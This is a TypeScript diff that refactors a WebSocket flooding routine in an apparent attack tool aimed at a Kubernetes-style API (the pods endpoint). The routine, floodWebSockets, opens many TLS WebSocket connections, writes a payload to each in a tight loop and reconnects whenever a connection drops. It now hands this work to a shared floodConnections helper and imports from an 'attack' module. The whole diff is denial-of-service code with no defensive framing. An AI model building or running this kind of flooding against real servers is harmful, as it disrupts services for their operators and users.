@@ -1,5 +1,6 @@
 import type { TLSSocket } from "node:tls";
 import { pause } from "./attack.ts";
+import { floodConnections } from "./flood_connections.ts";
 import { createClient, type Target, tlsConnection } from "./target.ts";
 
 const pods = "/api/v1/namespaces/default/pods";
@@ -49,30 +50,16 @@ export function frame(data: string, { opcode = 2, isFinal = true, isMasked = tru
 }
 
 /** Keeps so many WebSockets open, each of which says what it has to say again and again; who is cut off comes back. */
-export async function floodWebSockets(
+export function floodWebSockets(
   { target, signal }: { readonly target: Target; readonly signal: AbortSignal },
   { count, path, protocol, says }: { count: number; path: string; protocol: string; says(index: number): Buffer },
 ): Promise<void> {
-  const lane = async (index: number) => {
-    while (!signal.aborted) {
+  return floodConnections(signal, {
+    count,
+    open: (opened) => webSocketTo(target, { path, protocol }, opened),
+    says(index) {
       const said = says(index);
-      const go = (socket: TLSSocket) => {
-        socket.resume();
-        // A write that is over at once must not keep all else from its turn, nor one that failed be tried for ever.
-        const again = () => {
-          if (socket.destroyed) return;
-          socket.write(said, (error) => (error ? socket.destroy() : setImmediate(again)));
-        };
-        again();
-      };
-      const socket = webSocketTo(target, { path, protocol }, go);
-      const closed = new Promise((resolve) => socket.once("close", resolve));
-      const over = new AbortController();
-      await Promise.race([closed, pause(10_000_000, AbortSignal.any([signal, over.signal]))]);
-      over.abort();
-      socket.destroy();
-      await pause(50, signal);
-    }
-  };
-  await Promise.all(Array.from({ length: count }, (_none, index) => lane(index)));
+      return () => said;
+    },
+  });
 }
